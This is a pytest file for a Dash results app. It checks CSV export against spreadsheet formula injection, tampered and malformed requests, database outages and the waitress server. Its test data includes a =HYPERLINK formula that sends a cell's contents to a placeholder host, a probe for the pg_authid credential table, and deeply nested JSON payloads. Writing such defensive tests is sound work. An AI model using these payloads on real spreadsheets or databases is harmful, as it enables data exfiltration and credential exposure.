"""The results app under bad input and a database outage, its CSV export against
spreadsheet formula injection, and the production WSGI server of the container.

No flow runs here: the tests use the tables that ``ensure_schema`` creates and a few
rows of their own in ``raw.terceirizados_quarentena`` (removed afterwards)."""

import csv
import io
import json
import os
import re
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from decimal import Decimal
from pathlib import Path

import psycopg2
import pytest
from hypothesis import example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from sqlalchemy import text
from sqlalchemy.exc import OperationalError

from pipelines.results import views
from pipelines.results.app import create_app
from pipelines.results.export import FORMULA_PREFIXES, csv_stream, spreadsheet_safe
from pipelines.results.pages.common import TIMEOUT_MESSAGE, unavailable
from pipelines.results.queries import ResultsRepository, is_query_timeout, make_engine
from pipelines.settings import load_settings
from tests.netproxy import Proxy

ROOT = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("http://exemplo.invalido/?x="&A1,"Clique aqui")'
DOWN = "Banco de dados indisponível"
MARK_PERIOD = "1990-01-01"  # a period no flow ever captures


# -- the export rule, as a property ----------------------------------------------------

# Any text, and text that begins with each formula character (rare in plain st.text()).
TEXTS = st.one_of(st.text(), st.builds(str.__add__, st.sampled_from(FORMULA_PREFIXES), st.text()))
NUMBERS = st.one_of(st.integers(), st.floats(), st.decimals(allow_nan=False), st.booleans())
# no deadline (2 shared cores) and no example database left in the work tree
PROPERTY = hypothesis_settings(deadline=None, database=None, max_examples=300)


def test_formula_prefixes_are_the_documented_ones():
    assert FORMULA_PREFIXES == ("=", "+", "-", "@", "\t", "\r")
    assert spreadsheet_safe(None) is None


@PROPERTY
@given(TEXTS)
@example(FORMULA)
@example("'=1+1")
@example(" =1")
@example("-12.5")
@example("")
def test_no_text_cell_starts_with_a_formula_character_unless_prefixed(value):
    cell = spreadsheet_safe(value)
    assert cell[:1] not in FORMULA_PREFIXES
    if value[:1] in FORMULA_PREFIXES:
        assert cell == "'" + value
    else:
        assert cell == value  # anything else is exported verbatim


@PROPERTY
@given(NUMBERS)
@example(-12.5)
@example(Decimal("-12.50"))
@example(-(10**30))
def test_numbers_are_untouched(number):
    assert spreadsheet_safe(number) is number


@PROPERTY
@given(st.lists(st.tuples(TEXTS, NUMBERS), max_size=40), st.integers(min_value=1, max_value=7))
@example([(FORMULA, Decimal("-12.5")), ("\r\n=1", -1)], 1)
def test_csv_stream_has_no_formula_cells_and_keeps_numbers(rows, chunk_rows):
    chunks = list(csv_stream(["texto", "=numero"], iter(rows), chunk_rows=chunk_rows))
    parsed = list(csv.reader(io.StringIO("".join(chunks), newline="")))
    assert parsed[0] == ["texto", "'=numero"]  # header cells are text too
    assert len(parsed) == len(rows) + 1 and len(chunks) == len(rows) // chunk_rows + 1
    for (value, number), (text_cell, number_cell) in zip(rows, parsed[1:]):
        assert text_cell[:1] not in FORMULA_PREFIXES
        assert text_cell == (("'" + value) if value[:1] in FORMULA_PREFIXES else value)
        assert number_cell == str(number)  # -12.5 stays -12.5


# -- the app, with a few rows of its own ----------------------------------------------


@pytest.fixture(scope="module")
def marked(settings):
    """Two quarantine rows with formula-like texts and a negative number."""
    conn = psycopg2.connect(**settings.postgres_dsn())
    conn.autocommit = True
    rows = [
        (MARK_PERIOD, "+a.csv", "\t=1+2", "\r=3", -12, FORMULA, "-1;@x"),
        (MARK_PERIOD, "@a.csv", "https://exemplo.invalido/a.csv", "abc", 7, "nota: -1 é texto", "'já tem apóstrofo"),
    ]
    with conn.cursor() as cursor:
        cursor.execute("DELETE FROM raw.terceirizados_quarentena WHERE periodo = %s", (MARK_PERIOD,))
        cursor.executemany(
            """INSERT INTO raw.terceirizados_quarentena (periodo, arquivo_origem, url_origem, sha256_arquivo,
                   linha_origem, motivo, linha_bruta, capturado_em)
               VALUES (%s, %s, %s, %s, %s, %s, %s, now())""",
            rows,
        )
    yield conn
    with conn.cursor() as cursor:
        cursor.execute("DELETE FROM raw.terceirizados_quarentena WHERE periodo = %s", (MARK_PERIOD,))
    conn.close()


@pytest.fixture(scope="module")
def app(settings, marked):
    return create_app(settings)


@pytest.fixture
def client(app):
    client = app.server.test_client()
    assert client.get("/").status_code == 200
    return client


def callback_key(app, output: str) -> str:
    return next(key for key in app.callback_map if output in key)


def dash_body(app, outputs: list[tuple], inputs: list[tuple], changed: list[str] | None = None) -> dict:
    """The body dash-renderer POSTs: outputs as (id, property), inputs as (id, property, value)."""
    key = callback_key(app, f"{outputs[0][0]}.{outputs[0][1]}" if isinstance(outputs[0][0], str) else outputs[0][1])
    return {
        "output": key,
        "outputs": (
            [{"id": i, "property": p} for i, p in outputs]
            if len(outputs) > 1
            else {"id": outputs[0][0], "property": outputs[0][1]}
        ),
        "inputs": [{"id": i, "property": p, "value": v} for i, p, v in inputs],
        "changedPropIds": changed
        if changed is not None
        else [
            f"{json.dumps(i, sort_keys=True, separators=(',', ':')) if isinstance(i, dict) else i}.{p}"
            for i, p, _ in inputs[:1]
        ],
        "state": [],
    }


def post(client, body):
    data = body if isinstance(body, str) else json.dumps(body)
    return client.post("/_dash-update-component", data=data, content_type="application/json")


def logs_body(app, level, flow=None, run=None):
    return dash_body(
        app,
        [("logs-grid", "rowData"), ("logs-info", "children")],
        [("log-flow", "value", flow), ("log-run", "value", run), ("log-level", "value", level)],
    )


def table_body(app, key):
    return dash_body(
        app,
        [
            ("grid-container", "children"),
            ("export-container", "children"),
            ("table-info", "children"),
            ("dictionary", "rowData"),
        ],
        [("table-select", "value", key)],
    )


def grid_body(app, request, table="raw.terceirizados_quarentena"):
    grid, export = {"type": "grid", "table": table}, {"type": "export", "table": table}
    body = dash_body(app, [(grid, "getRowsResponse"), (export, "href")], [(grid, "getRowsRequest", request)])
    body["output"] = next(key for key in app.callback_map if "getRowsResponse" in key)
    return body


def period_body(app, period):
    return dash_body(
        app,
        [("chart-agencies", "figure"), ("chart-companies", "figure"), ("chart-salary", "figure")],
        [("chart-period", "value", period)],
    )


def response_text(response) -> str:
    return json.dumps(response.get_json(), ensure_ascii=False)


def test_export_neutralises_formulas_in_text_columns_only(client):
    response = client.get(
        views.export_href(
            "raw.terceirizados_quarentena",
            [{"colId": "linha_origem", "sort": "asc"}],
            {"periodo": {"filterType": "text", "type": "equals", "filter": MARK_PERIOD}},
        )
    )
    assert response.status_code == 200 and response.mimetype == "text/csv"
    data = response.get_data(as_text=True)
    assert "\n=HYPERLINK" not in data and ",=HYPERLINK" not in data and '"=HYPERLINK' not in data
    header, *rows = list(csv.reader(io.StringIO(data, newline="")))
    first, second = (dict(zip(header, row)) for row in rows)
    assert first["motivo"] == "'" + FORMULA
    assert first["arquivo_origem"] == "'+a.csv" and first["linha_bruta"] == "'-1;@x"
    assert first["url_origem"] == "'\t=1+2" and first["sha256_arquivo"] == "'\r=3"
    assert first["linha_origem"] == "-12" and second["linha_origem"] == "7"  # numbers untouched
    assert second["arquivo_origem"] == "'@a.csv"
    assert second["motivo"] == "nota: -1 é texto"  # only the first character matters
    assert second["linha_bruta"] == "'já tem apóstrofo"  # no prefix needed, none added
    assert first["periodo"] == second["periodo"] == MARK_PERIOD


# -- malformed callback requests -------------------------------------------------------


def test_malformed_callback_envelopes_get_400(app, client):
    good = logs_body(app, "ERROR")
    assert post(client, good).status_code == 200
    broken = {
        "not json": "não é json",
        "json null": "null",
        "a list": [1, 2],
        "no output": {k: v for k, v in good.items() if k != "output"},
        "output of a list": {**good, "output": ["logs-grid.rowData"]},
        "unknown output": {**good, "output": "nada.children"},
        "inputs not a list": {**good, "inputs": 5},
        "too few inputs": {**good, "inputs": good["inputs"][:1]},
        "input not an object": {**good, "inputs": [1, 2, 3]},
        "input for another component": {**good, "inputs": [{"id": "url", "property": "pathname", "value": "/"}] * 3},
        "outputs of another callback": {**good, "outputs": [{"id": "x", "property": "y"}]},
        "outputs missing": {**good, "outputs": None},
        "state not a list": {**good, "state": "x"},
        "changed ids not text": {**good, "changedPropIds": [{"a": 1}]},
        "deeply nested": '{"output": ' + "[" * 100_000 + "]" * 100_000 + "}",
    }
    for name, body in broken.items():
        response = post(client, body)
        assert response.status_code == 400, name
        assert response.get_data(as_text=True).startswith("Requisição inválida"), name
    grid = grid_body(app, {"startRow": 0, "endRow": 10})
    assert post(client, grid).status_code == 200
    other_grid = grid_body(app, {"startRow": 0, "endRow": 10})
    other_grid["inputs"][0]["id"] = {"type": "export", "table": "raw.terceirizados_quarentena"}
    assert post(client, other_grid).status_code == 400
    other_grid["inputs"][0]["id"] = {"type": "grid"}
    assert post(client, other_grid).status_code == 400


def test_bad_callback_values_get_a_clear_message_never_database_down(app, client):
    response = post(client, logs_body(app, ["INFO", "ERROR"]))  # a list, from a tampered request
    assert response.status_code == 200
    info = response.get_json()["response"]["logs-info"]["children"]
    assert DOWN not in response_text(response)
    assert info["props"]["children"] == "Pedido inválido: o filtro Nível deve ser um único valor de texto."
    assert response.get_json()["response"]["logs-grid"]["rowData"] == []
    for flow in ({"a": 1}, 3, "x\x00y"):
        response = post(client, logs_body(app, None, flow=flow))
        assert response.status_code == 200 and "Pedido inválido: o filtro Flow" in response_text(response)
        assert DOWN not in response_text(response)

    for key, message in (
        (["raw.terceirizados_quarentena"], "Pedido inválido: o nome da tabela deve ser um texto."),
        ("pg_catalog.pg_authid", "Pedido inválido: Tabela não permitida: pg_catalog.pg_authid."),
    ):
        response = post(client, table_body(app, key))
        assert response.status_code == 200, key
        assert response.get_json()["response"]["table-info"]["children"]["props"]["children"] == message
        assert DOWN not in response_text(response)

    bad_grid_requests = {
        "start row not a number": ({"startRow": "abc", "endRow": 10}, "startRow"),
        "end row infinite": ('{"startRow": 0, "endRow": 1e400}', "endRow"),
        "request not an object": ([0, 10], "pedido da grade"),
        "filter model a list": ({"startRow": 0, "endRow": 10, "filterModel": []}, "filterModel"),
        "sort model an object": ({"startRow": 0, "endRow": 10, "sortModel": {"colId": "periodo"}}, "sortModel"),
        "sort item not an object": ({"startRow": 0, "endRow": 10, "sortModel": [1]}, "sortModel"),
        "unknown column": (
            {"startRow": 0, "endRow": 10, "filterModel": {"nada": {"type": "contains", "filter": "a"}}},
            "Coluna desconhecida: nada",
        ),
        "number filter on text": (
            {
                "startRow": 0,
                "endRow": 10,
                "filterModel": {"linha_origem": {"filterType": "number", "type": "equals", "filter": "abc"}},
            },
            "número",
        ),
        "empty conditions": (
            {
                "startRow": 0,
                "endRow": 10,
                "filterModel": {"motivo": {"filterType": "text", "operator": "OR", "conditions": []}},
            },
            "condições",
        ),
        "NUL in a text filter": (
            {
                "startRow": 0,
                "endRow": 10,
                "filterModel": {"motivo": {"filterType": "text", "type": "contains", "filter": "a\x00b"}},
            },
            "caractere nulo",
        ),
        "filter spec not an object": ({"startRow": 0, "endRow": 10, "filterModel": {"motivo": 5}}, "motivo"),
        "unsupported text filter": (
            {
                "startRow": 0,
                "endRow": 10,
                "filterModel": {"motivo": {"filterType": "text", "type": "regex", "filter": "a"}},
            },
            "regex",
        ),
    }
    for name, (request, detail) in bad_grid_requests.items():
        body = grid_body(app, None)
        if isinstance(request, str):
            body = json.dumps(body).replace('"value": null', '"value": ' + request)
        else:
            body["inputs"][0]["value"] = request
        response = post(client, body)
        assert response.status_code == 200, name
        payload = response.get_json()
        grid_id = json.dumps({"table": "raw.terceirizados_quarentena", "type": "grid"}, separators=(",", ":"))
        assert payload["response"][grid_id] == {"getRowsResponse": {"rowData": [], "rowCount": 0}}, name
        message = payload["sideUpdate"]["table-info"]["children"]["props"]["children"]
        assert message.startswith("Pedido inválido: ") and detail in message, (name, message)
        assert DOWN not in response_text(response), name

    for period in ("2024", "abcd-ef", ["2024-05"], "2024-13"):
        response = post(client, period_body(app, period))
        assert response.status_code == 200, period
        message = response.get_json()["sideUpdate"]["charts-info"]["children"]["props"]["children"]
        assert message.startswith("Pedido inválido: o período deve ter a forma AAAA-MM"), period
    response = post(client, dash_body(app, [("page", "children")], [("url", "pathname", ["/logs"])]))
    assert response.status_code == 200 and "table-select" in response_text(response)  # unknown path: tables page


def test_export_with_bad_parameters_gets_400(client):
    good = "/exportar.csv?tabela=raw.terceirizados_quarentena"
    assert client.get(good).status_code == 200
    bad = {
        "no table": "/exportar.csv",
        "table not allowed": "/exportar.csv?tabela=pg_catalog.pg_authid",
        "filter not json": good + "&filtro=%7Bx",
        "filter a list": good + "&filtro=%5B%5D",
        "filter spec a number": good + "&filtro=" + urllib.request.quote('{"motivo": 5}'),
        "sort an object": good + "&ordem=" + urllib.request.quote('{"colId": "motivo"}'),
        "sort item a number": good + "&ordem=%5B1%5D",
        "number filter with text": good
        + "&filtro="
        + urllib.request.quote('{"linha_origem": {"filterType": "number", "type": "lessThan", "filter": "abc"}}'),
        "NUL in a filter": good
        + "&filtro="
        + urllib.request.quote('{"motivo": {"filterType": "text", "type": "contains", "filter": "a\\u0000"}}'),
        "deep nesting": good + "&filtro=" + "%5B" * 50_000 + "%5D" * 50_000,
        "NaN": good + "&filtro=NaN",
    }
    for name, url in bad.items():
        response = client.get(url)
        assert response.status_code == 400, name
        assert response.mimetype == "text/plain" and response.get_data(as_text=True).startswith(
            "Exportação inválida: "
        ), name


# -- the database down -----------------------------------------------------------------


def test_database_down_gives_503_on_export_and_indisponivel_in_the_ui(settings, marked):
    proxy = Proxy(settings.postgres_port)
    proxied = load_settings({**os.environ, "POSTGRES_PORT": str(proxy.port)})
    repo = ResultsRepository(make_engine(proxied))
    down_app = create_app(proxied, repo)
    client = down_app.server.test_client()
    assert client.get("/exportar.csv?tabela=raw.terceirizados_quarentena").status_code == 200
    proxy.cut()
    try:
        response = client.get("/exportar.csv?tabela=raw.terceirizados_quarentena")
        assert response.status_code == 503 and response.mimetype == "text/plain"
        assert response.headers["Retry-After"] == "5"
        assert response.get_data(as_text=True).startswith(f"{DOWN} em 127.0.0.1:{proxy.port}/{settings.postgres_db}")
        # bad input is still reported as bad input, without touching the database
        response = client.get("/exportar.csv?tabela=raw.terceirizados_quarentena&filtro=%5B%5D")
        assert response.status_code == 400

        response = post(client, logs_body(down_app, "ERROR"))
        assert response.status_code == 200
        assert response.get_json()["response"]["logs-info"]["children"] == f"{DOWN}."
        response = post(client, logs_body(down_app, ["ERROR"]))
        assert DOWN not in response_text(response) and "Pedido inválido" in response_text(response)
        response = post(client, table_body(down_app, "raw.terceirizados_quarentena"))
        assert response.get_json()["response"]["table-info"]["children"] == f"{DOWN}."
        response = post(client, grid_body(down_app, {"startRow": 0, "endRow": 10}))
        assert response.status_code == 200
        assert response.get_json()["sideUpdate"]["table-info"]["children"] == f"{DOWN}."
        health = dash_body(
            down_app, [("db-banner", "children")], [("health-interval", "n_intervals", 1), ("url", "pathname", "/")]
        )
        banner = post(client, health).get_json()["response"]["db-banner"]["children"]
        assert banner["props"]["children"].startswith(f"{DOWN} em 127.0.0.1:{proxy.port}")
    finally:
        proxy.enabled = True
    response = client.get("/exportar.csv?tabela=raw.terceirizados_quarentena")
    assert response.status_code == 200  # back by itself
    repo.engine.dispose()


def test_statement_timeout_is_not_reported_as_database_down(settings, marked):
    repo = ResultsRepository(make_engine(settings))
    with pytest.raises(OperationalError) as cancelled:
        with repo.engine.connect() as conn:
            conn.execute(text("SET LOCAL statement_timeout = '50ms'"))
            conn.execute(text("SELECT pg_sleep(2)"))
    assert is_query_timeout(cancelled.value)
    assert unavailable(cancelled.value) == TIMEOUT_MESSAGE
    assert "30 s" in TIMEOUT_MESSAGE and DOWN not in TIMEOUT_MESSAGE

    def timed_out(*_args, **_kwargs):
        raise cancelled.value

    repo.columns = repo.log_records = timed_out
    timeout_app = create_app(settings, repo)
    client = timeout_app.server.test_client()
    response = client.get("/exportar.csv?tabela=raw.terceirizados_quarentena")
    assert response.status_code == 503 and response.get_data(as_text=True) == TIMEOUT_MESSAGE + "\n"
    response = post(client, logs_body(timeout_app, "ERROR"))
    assert response.get_json()["response"]["logs-info"]["children"] == TIMEOUT_MESSAGE
    repo.engine.dispose()


# -- the production server -------------------------------------------------------------


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def get(url: str, timeout: float = 10):
    with urllib.request.urlopen(url, timeout=timeout) as response:
        return response.status, response.headers, response.read()


def test_container_serves_the_app_with_waitress(settings, marked):
    pinned = (ROOT / "requirements" / "results.txt").read_text()
    assert re.search(r"^waitress==\d+\.\d+\.\d+$", pinned, re.M)
    script = (ROOT / "run" / "container.sh").read_text()
    [command] = [line for line in script.splitlines() if "pipelines.results" in line]
    assert command.startswith("waitress-serve ") and command.endswith(" &")
    assert not [line for line in script.splitlines() if line.startswith("python run/results.py")]
    port = free_port()
    env = {
        **os.environ,
        "RESULTS_HOST": "127.0.0.1",
        "RESULTS_PORT": str(port),
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
    }
    server = subprocess.Popen(
        ["bash", "-c", "exec " + command.removesuffix("&").strip()],
        cwd=ROOT,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                status, _, page = get(f"http://127.0.0.1:{port}/", timeout=3)
                break
            except (urllib.error.URLError, ConnectionError):
                assert server.poll() is None, server.stdout.read()
                assert time.monotonic() < deadline, "o servidor não respondeu em 60 s"
                time.sleep(0.3)
        assert status == 200 and b"Terceirizados" in page and b"_dash-config" in page
        status, _, layout = get(f"http://127.0.0.1:{port}/_dash-layout")
        assert status == 200 and b"db-banner" in layout
        page_request = urllib.request.Request(
            f"http://127.0.0.1:{port}/_dash-update-component",
            headers={"Content-Type": "application/json"},
            data=json.dumps(
                {
                    "output": "page.children",
                    "outputs": {"id": "page", "property": "children"},
                    "inputs": [{"id": "url", "property": "pathname", "value": "/tabelas"}],
                    "changedPropIds": ["url.pathname"],
                }
            ).encode(),
        )
        with urllib.request.urlopen(page_request, timeout=10) as response:
            assert response.status == 200 and b"table-select" in response.read()
        status, headers, data = get(f"http://127.0.0.1:{port}/exportar.csv?tabela=raw.terceirizados_quarentena")
        assert status == 200 and headers["Content-Type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
        ours = {
            row[rows[0].index("linha_origem")]: dict(zip(rows[0], row)) for row in rows[1:] if row[0] == MARK_PERIOD
        }
        assert ours["-12"]["motivo"] == "'" + FORMULA and ours["7"]["arquivo_origem"] == "'@a.csv"
        with pytest.raises(urllib.error.HTTPError) as bad:
            get(f"http://127.0.0.1:{port}/exportar.csv?tabela=raw.terceirizados_quarentena&filtro=%5B%5D")
        assert bad.value.code == 400
        assert server.poll() is None
    finally:
        server.terminate()
        try:
            output, _ = server.communicate(timeout=15)
        except subprocess.TimeoutExpired:
            server.kill()
            output, _ = server.communicate()
    assert "Werkzeug" not in output and "development server" not in output
    assert f"Serving on http://127.0.0.1:{port}" in output
